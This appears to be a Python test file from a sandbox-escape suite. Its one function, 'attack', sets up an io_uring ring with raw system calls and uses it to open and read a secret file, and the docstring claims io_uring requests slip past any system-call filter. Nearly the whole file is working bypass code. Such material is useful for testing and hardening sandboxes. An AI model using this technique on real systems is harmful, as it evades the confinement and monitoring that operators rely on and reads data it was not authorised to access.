"""Open and read the secret through io_uring, whose requests no filter of system calls sees."""

import ctypes
import mmap
import os
import struct

SETUP, ENTER, OPENAT, READ = 425, 426, 18, 22


def attack(target):
    libc = ctypes.CDLL(None)
    libc.syscall.restype = ctypes.c_long
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 4, parameters)
    if ring < 0:
        return []
    words = struct.unpack_from("30I", parameters.raw)
    queue, done = words[10:20], words[20:30]
    rings = mmap.mmap(ring, max(queue[6] + 4 * words[0], done[5] + 16 * words[1]), offset=0)
    entries = mmap.mmap(ring, 64 * words[0], offset=0x10000000)
    path, text = ctypes.create_string_buffer(target["secret_file"].encode()), ctypes.create_string_buffer(100)

    def request(number, operation, file, address, length):
        entries[:64] = struct.pack("BBHiQQII", operation, 0, 0, file, 0, address, length, 0).ljust(64, b"\0")
        struct.pack_into("I", rings, queue[6], 0)
        struct.pack_into("I", rings, queue[1], number + 1)
        libc.syscall(ENTER, ring, 1, 1, 1, None, 0)
        mask = struct.unpack_from("I", rings, done[2])[0]
        return struct.unpack_from("Qi", rings, done[5] + 16 * (number & mask))[1]

    opened = request(0, OPENAT, -100, ctypes.addressof(path), 0)
    if opened < 0:
        return []
    request(1, READ, opened, ctypes.addressof(text), 100)
    os.close(opened)
    return [text.value.decode()]
